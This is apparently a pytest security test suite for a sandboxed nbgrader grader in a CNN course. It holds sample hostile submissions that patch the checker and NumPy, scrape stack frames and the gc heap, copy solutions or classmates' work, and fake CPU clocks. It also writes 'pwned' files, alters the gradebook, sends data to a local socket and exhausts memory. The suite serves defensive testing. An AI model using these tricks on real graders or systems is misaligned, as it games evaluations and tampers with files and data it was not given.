"""Hostile submissions against the sandboxed grader (issue 7), graded by a real `nbgrader autograde`.

Every attack is a submission a student who has read ``cnnlab/grading`` could write. Each one solves
nothing and tries to fool the checker instead: patch it, read the caller's frames, search ``gc``,
patch NumPy's comparisons, return lying objects, run the instructor's notebook from ``solutions/``,
copy a classmate from ``submitted/``, fake 07's CPU clock. They must score 0 on the cells of the
functions they fake, while the honest functions of the same notebook keep their points.

Submissions with side effects (writing into the course, the package and the gradebook; sending
data to a listener on 127.0.0.1; asking for 6 GiB) keep their honest marks, and afterwards the
course directory is byte-for-byte as before (hashes), the gradebook has nbgrader's tables only and
the listener received nothing.

Everything runs in a temporary copy of the course; all submissions are graded by one
``nbgrader autograde "*"`` call.
"""

import copy
import hashlib
import importlib.util
import json
import os
import shutil
import socket
import sqlite3
import threading

import pytest

from course_copy import (INDEPENDENT_02, MUTANT_02_CONV, REPO, cell_timeout, copy_course, insert_code_cell,
                         load_grade_script, read_nb, set_source, shrink_07, write_nb)

CELL_TIMEOUT = 30

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(importlib.util.find_spec("nbgrader") is None, reason="nbgrader is not installed"),
    pytest.mark.skipif(shutil.which("bwrap") is None, reason="bubblewrap is not installed (apt-get install bubblewrap)"),
]


grade = load_grade_script("cnnlab_grade_script_attacks")


# ---------------------------------------------------------------------------------------------
# The attacks: a prelude that defines make(name, shape) -> a fake function, per attack class
# ---------------------------------------------------------------------------------------------

# Common part: a plausible fallback answer of the right shape (zeros), so that only the trick can
# score. `shape(args, kwargs)` is the true output shape (computable from the inputs), or None.
FALLBACK = '''
import numpy as np


def fallback(shape, args):
    if shape is None:
        return 0.5
    value = np.zeros(shape, dtype=getattr(args[0], "dtype", np.float64) if args else np.float64)
    if type(args[0]).__module__.startswith("torch") if args else False:
        import torch
        return torch.zeros(shape)
    return value
'''

ATTACKS = {
    # replace every checking function of cnnlab.grading by a no-op
    "patch_checker": '''
import sys
from cnnlab import grading
for module in [grading] + [m for n, m in list(sys.modules.items()) if n.startswith("cnnlab.grading")]:
    for attr in dir(module):
        if attr.startswith("check") or attr in ("expect_error", "assert_matches", "call_student", "observe"):
            try:
                setattr(module, attr, lambda *a, **k: None)
            except (AttributeError, TypeError):
                pass


def make(name, shape):
    def fake(*args, **kwargs):
        return fallback(shape(args, kwargs), args)
    return fake
''',
    # walk up the caller's frames to the grader's `expected`
    "frames": '''
import sys


def make(name, shape):
    def fake(*args, **kwargs):
        frame = sys._getframe(1)
        while frame is not None:
            for key in ("expected", "expected_value", "want", "reference_value"):
                if key in frame.f_locals:
                    return frame.f_locals[key]
            frame = frame.f_back
        return fallback(shape(args, kwargs), args)
    return fake
''',
    # search the garbage collector for an array of the output's shape that is not an input
    "gc": '''
import gc


def make(name, shape):
    def fake(*args, **kwargs):
        want = shape(args, kwargs)
        inputs = {id(a) for a in list(args) + list(kwargs.values())}
        for obj in gc.get_objects():
            if hasattr(obj, "shape") and tuple(getattr(obj, "shape", ())) == tuple(want or ()) \\
                    and id(obj) not in inputs and want is not None:
                return obj.copy() if hasattr(obj, "copy") else obj
        return fallback(want, args)
    return fake
''',
    # make NumPy's comparisons agree with anything, return zeros
    "patch_numpy": '''
np.isclose = lambda a, b, *x, **k: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, dtype=bool)
np.allclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None


def make(name, shape):
    def fake(*args, **kwargs):
        return fallback(shape(args, kwargs), args)
    return fake
''',
    # an ndarray subclass whose ufuncs and comparisons all answer True; a number that equals everything
    "liar": '''
class Liar(np.ndarray):
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        shapes = [np.shape(i) for i in inputs]
        return np.ones(np.broadcast_shapes(*shapes), dtype=bool)

    def __eq__(self, other):
        return True

    __ne__ = lambda self, other: False


class LyingNumber(float):
    def __eq__(self, other):
        return True

    __hash__ = float.__hash__


def make(name, shape):
    def fake(*args, **kwargs):
        want = shape(args, kwargs)
        if want is None:
            return LyingNumber(0.5)
        return np.zeros(want).view(Liar)
    return fake
''',
    # open the instructor's notebook in solutions/ and run its code
    "solutions": '''
import glob
import json
import os

_found = {}
for path in glob.glob(os.path.join(COURSE, "solutions", "*", "*.ipynb")) + glob.glob("/**/solutions/*/*.ipynb"):
    try:
        with open(path) as f:
            cells = json.load(f)["cells"]
        for cell in cells:
            if cell["cell_type"] == "code" and "BEGIN SOLUTION" in "".join(cell["source"]):
                exec("".join(cell["source"]), _found)
    except Exception:
        pass


def make(name, shape):
    def fake(*args, **kwargs):
        if name in _found:
            return _found[name](*args, **kwargs)
        return fallback(shape(args, kwargs), args)
    return fake
''',
    # copy the functions of the other students' submissions
    "classmates": '''
import glob
import json
import os

_found = {}
for path in glob.glob(os.path.join(COURSE, "submitted", "*", "*", "*.ipynb")) + \\
        glob.glob(os.path.join(COURSE, "autograded", "*", "*", "*.ipynb")):
    try:
        with open(path) as f:
            cells = json.load(f)["cells"]
        for cell in cells:
            if cell["cell_type"] == "code" and cell["metadata"].get("nbgrader", {}).get("solution"):
                exec("".join(cell["source"]), _found)
    except Exception:
        pass


def make(name, shape):
    def fake(*args, **kwargs):
        if name in _found and _found[name].__code__.co_filename != __file__:
            return _found[name](*args, **kwargs)
        return fallback(shape(args, kwargs), args)
    return fake
''',
}

# Per attacked assignment: {solution cell grade_id: {function: output shape from (args, kwargs)}}.
TARGETS = {
    "01_image_data": {
        "image_layout": {"image_layout": "lambda a, k: None"},
        "to_float": {"to_float": "lambda a, k: a[0].shape"},
        "to_nchw": {"to_nchw": "lambda a, k: (a[0].shape[0], a[0].shape[3]) + a[0].shape[1:3] if a[0].ndim == 4 "
                               "else (a[0].shape[0], 1) + a[0].shape[1:]",
                    "to_nhwc": "lambda a, k: (a[0].shape[0],) + a[0].shape[2:] + (a[0].shape[1],)"},
        "to_grayscale": {"to_grayscale": "lambda a, k: a[0].shape[:-1]"},
    },
    "02_convolution": {
        "corr2d": {"corr2d": "lambda a, k: (a[0].shape[0] - a[1].shape[0] + 1, a[0].shape[1] - a[1].shape[1] + 1)"},
        "conv2d": {"conv2d": "lambda a, k: (lambda x, w: (x.shape[0], w.shape[0], x.shape[2] - w.shape[2] + 1, "
                             "x.shape[3] - w.shape[3] + 1))(*(a[:2] if len(a) >= 2 else (k['x'], k['w'])))"},
    },
    "07_train_cnn": {
        "prepare_images": {"prepare_images": "lambda a, k: (a[0].shape[0], 1) + a[0].shape[1:]"},
        "accuracy": {"accuracy": "lambda a, k: None"},
    },
}
# Test cells of each assignment that check only the attacked functions (all must be 0).
ATTACKED_CELLS = {
    "01_image_data": None,  # every test cell
    "02_convolution": None,
    "07_train_cnn": ["test_prepare_images", "test_accuracy", "test_functions_hidden"],
}
HONEST_CELLS_07 = ["test_build_model"]

# 07 in the test course: a smaller training set and a tighter CPU budget, so that faking the clock
# can be shown in seconds (the instructor's test course, not the student's notebook).
FAKE_CLOCK = '''
import os
import resource
import time

_real_cpu = time.process_time
time.process_time = lambda: 0.0
time.process_time_ns = lambda: 0
time.perf_counter = lambda: 0.0
time.thread_time = lambda: 0.0
os.times = lambda: os.times_result((0.0, 0.0, 0.0, 0.0, 0.0))
resource.getrusage = lambda who: None


def train_model(model, images, labels, epochs=5, lr=2e-3, batch_size=32, seed=0):
    import torch
    start, x = _real_cpu(), 0
    while len(images) > 200 and _real_cpu() - start < 40:  # burn 40 s of CPU "for free", then train
        x += 1
    torch.manual_seed(seed)
    optimizer = torch.optim.Adam(model.parameters(), lr=lr)
    losses = []
    for _ in range(epochs):
        total = 0.0
        for i in range(0, len(images), batch_size):
            optimizer.zero_grad()
            loss = torch.nn.functional.cross_entropy(model(images[i:i + batch_size]), labels[i:i + batch_size])
            loss.backward()
            optimizer.step()
            total += float(loss) * len(images[i:i + batch_size])
        losses.append(total / len(images))
    return losses
'''

SIDE_EFFECTS = '''
import os
import socket
import sqlite3

COURSE = {course!r}
REPO = {repo!r}
PORT = {port}
attempts = []
for path in [os.path.join(COURSE, "pwned.txt"), os.path.join(COURSE, "solutions", "pwned.txt"),
             os.path.join(COURSE, "submitted", "pwned.txt"), os.path.join(REPO, "cnnlab", "pwned.py"),
             os.path.join(os.path.dirname(__import__("cnnlab").__file__), "pwned.py")]:
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as f:
            f.write("pwned")
        attempts.append(("wrote", path))
    except OSError as error:
        attempts.append(("refused", path, type(error).__name__))
try:
    db = sqlite3.connect(os.path.join(COURSE, "gradebook.db"))
    db.execute("CREATE TABLE pwned (x)")
    db.commit()
    attempts.append("table created")
except Exception as error:
    attempts.append(("gradebook refused", type(error).__name__))
try:
    with socket.create_connection(("127.0.0.1", PORT), timeout=2) as s:
        s.sendall(b"stolen answers")
    attempts.append("sent")
except OSError as error:
    attempts.append(("socket refused", type(error).__name__))
print(attempts)
'''


MEMORY_HOG = '''
import numpy as np
try:
    hog = np.ones(6 * 2**30 // 8)  # 6 GiB, touched
    print("got", hog.nbytes)
except MemoryError as error:
    print("MemoryError:", error)
hog = bytearray(6 * 2**30)  # no except: this cell fails on its own
'''


def source_nb(root, name):
    return read_nb(os.path.join(root, "solutions", name, name + ".ipynb"))


QUICK_TRAIN = '''
def train_model(model, images, labels, epochs=5, lr=2e-3, batch_size=32, seed=0):
    return [2.0 - 0.1 * i for i in range(epochs)]  # the attackers do not train (it costs time, not the point)
'''


def attack_notebook(root, name, attack):
    """The solution notebook of ``name`` with every targeted function replaced by the attack."""
    nb = source_nb(root, name)
    if name == "07_train_cnn":
        set_source(nb, "train_model", QUICK_TRAIN)
    for grade_id, functions in TARGETS[name].items():
        lines = [f"COURSE = {root!r}", FALLBACK, ATTACKS[attack]]
        for function, shape in functions.items():
            lines.append(f"{function} = make({function!r}, {shape})")
        set_source(nb, grade_id, "\n".join(lines))
    return nb


def tree_hashes(root, skip=("autograded", "gradebook.db", "submitted", ".nbgrader.log", ".grading_secret",
                             "grading_seeds")):
    """{relative path: sha256} of every file under ``root`` except the grader's own products (nbgrader's, and the
    hidden seeds' secret and store, which the trusted side writes while grading)."""
    hashes = {}
    for folder, dirs, files in os.walk(root):
        rel = os.path.relpath(folder, root)
        if rel.split(os.sep)[0] in skip:
            continue
        for file in files:
            if rel == "." and file in skip:
                continue
            path = os.path.join(folder, file)
            with open(path, "rb") as f:
                hashes[os.path.relpath(path, root)] = hashlib.sha256(f.read()).hexdigest()
    return hashes


def submitted_hashes(root):
    folder = os.path.join(root, "submitted")
    return {k: v for k, v in tree_hashes(folder, skip=()).items()}


class Listener:
    """A TCP server on 127.0.0.1 (a free port) that records every byte it receives."""

    def __init__(self):
        self.server = socket.socket()
        self.server.bind(("127.0.0.1", 0))
        self.server.listen()
        self.server.settimeout(0.2)
        self.port = self.server.getsockname()[1]
        self.received = []
        self.connections = 0
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self.serve, daemon=True)
        self.thread.start()

    def serve(self):
        while not self.stop.is_set():
            try:
                conn, _ = self.server.accept()
            except OSError:
                continue
            self.connections += 1
            with conn:
                conn.settimeout(1)
                try:
                    self.received.append(conn.recv(1000))
                except OSError:
                    pass

    def close(self):
        self.stop.set()
        self.thread.join(timeout=5)
        self.server.close()


@pytest.fixture(scope="module")
def attacked_course(tmp_path_factory):
    root = copy_course(str(tmp_path_factory.mktemp("attacked_course")))
    path_07 = os.path.join(root, "solutions", "07_train_cnn", "07_train_cnn.ipynb")
    shrink_07(path_07, cpu_budget=30)
    for name in os.listdir(os.path.join(root, "solutions")):
        if name not in ("01_image_data", "02_convolution", "07_train_cnn"):
            shutil.rmtree(os.path.join(root, "solutions", name))
    listener = Listener()
    try:
        with cell_timeout(CELL_TIMEOUT):
            grade.generate(root, None, quiet=True)  # fills the gradebook
            subs = {}
            for name in TARGETS:
                subs[(name, "honest")] = source_nb(root, name)
                for attack in ATTACKS:
                    subs[(name, attack)] = attack_notebook(root, name, attack)
            subs[("07_train_cnn", "fake_clock")] = set_source(source_nb(root, "07_train_cnn"), "train_model", FAKE_CLOCK)
            side = SIDE_EFFECTS.format(course=root, repo=REPO, port=listener.port)
            subs[("02_convolution", "side_effects")] = insert_code_cell(source_nb(root, "02_convolution"), 2, side)
            independent = source_nb(root, "02_convolution")
            for grade_id, code in INDEPENDENT_02.items():
                set_source(independent, grade_id, code)
            subs[("02_convolution", "independent")] = independent
            subs[("02_convolution", "mutant")] = set_source(copy.deepcopy(independent), "conv2d", MUTANT_02_CONV)
            subs[("02_convolution", "memory")] = insert_code_cell(source_nb(root, "02_convolution"), 2, MEMORY_HOG)
            for (name, student), nb in subs.items():
                write_nb(nb, os.path.join(root, "submitted", student, name, name + ".ipynb"))
            with sqlite3.connect(os.path.join(root, "gradebook.db")) as db:
                tables_before = {r[0] for r in db.execute("SELECT name FROM sqlite_master")}
            before = tree_hashes(root)
            submitted_before = submitted_hashes(root)
            result = grade.nbgrader(root, "autograde", "*", "--force", check=False, quiet=True)
            after = tree_hashes(root)
            with sqlite3.connect(os.path.join(root, "gradebook.db")) as db:
                tables_after = {r[0] for r in db.execute("SELECT name FROM sqlite_master")}
            tables = {name: grade.scores(root, name) for name in TARGETS}
            yield {"root": root, "tables": tables, "log": result.stdout + result.stderr, "before": before,
                   "after": after, "submitted_before": submitted_before, "submitted_after": submitted_hashes(root),
                   "tables_before": tables_before, "tables_after": tables_after, "listener": listener}
    finally:
        listener.close()


def autograded_text(course, name, student):
    path = os.path.join(course["root"], "autograded", student, name, name + ".ipynb")
    return json.dumps(read_nb(path))


@pytest.mark.parametrize("name", list(TARGETS))
def test_honest_solutions_keep_full_marks(attacked_course, name):
    row = attacked_course["tables"][name]["honest"]
    assert not row["failed"], attacked_course["log"][-3000:]
    assert row["auto"] == row["auto_max"] > 0, row["cells"]


@pytest.mark.parametrize("attack", list(ATTACKS))
@pytest.mark.parametrize("name", list(TARGETS))
def test_attack_scores_zero_on_the_faked_functions(attacked_course, name, attack):
    row = attacked_course["tables"][name][attack]
    assert not row["failed"], f"{name}/{attack} was not graded"
    cells = ATTACKED_CELLS[name] or list(row["cells"])
    assert all(row["cells"][c] == 0 for c in cells), {c: row["cells"][c] for c in cells}
    if name == "07_train_cnn" and attack != "patch_checker":  # the honest functions of the same notebook keep their points
        assert all(row["cells"][c] > 0 for c in HONEST_CELLS_07), row["cells"]


def test_independent_implementation_full_marks_mutant_loses_points(attacked_course):
    table = attacked_course["tables"]["02_convolution"]
    assert table["independent"]["auto"] == table["independent"]["auto_max"], table["independent"]["cells"]
    mutant = table["mutant"]["cells"]
    assert mutant["test_corr2d"] > 0 and mutant["test_corr2d_hidden"] > 0
    assert mutant["test_conv2d"] == 0 and mutant["test_conv2d_hidden"] == 0
    assert "MismatchError" in autograded_text(attacked_course, "02_convolution", "mutant")


def test_faking_the_cpu_clock_does_not_hide_the_cpu_time(attacked_course):
    row = attacked_course["tables"]["07_train_cnn"]["fake_clock"]
    honest = attacked_course["tables"]["07_train_cnn"]["honest"]
    assert honest["cells"]["test_training_budget"] > 0
    assert row["cells"]["test_training_budget"] == 0, row["cells"]
    assert row["cells"]["test_training_runs"] > 0  # the losses themselves are fine
    assert "measured outside the sandbox" in autograded_text(attacked_course, "07_train_cnn", "honest")


def test_side_effects_keep_honest_marks_and_change_nothing(attacked_course):
    row = attacked_course["tables"]["02_convolution"]["side_effects"]
    assert row["auto"] == row["auto_max"], row["cells"]
    assert attacked_course["after"] == attacked_course["before"]  # the course, byte for byte
    assert attacked_course["submitted_after"] == attacked_course["submitted_before"]
    assert attacked_course["tables_after"] == attacked_course["tables_before"]  # no table "pwned"
    assert not os.path.exists(os.path.join(REPO, "cnnlab", "pwned.py"))
    assert attacked_course["listener"].connections == 0
    assert attacked_course["listener"].received == []


def test_memory_over_the_limit_is_refused(attacked_course):
    row = attacked_course["tables"]["02_convolution"]["memory"]
    assert not row["failed"]
    assert row["auto"] == row["auto_max"], row["cells"]
    text = autograded_text(attacked_course, "02_convolution", "memory")
    assert "MemoryError" in text and "got 6442450944" not in text
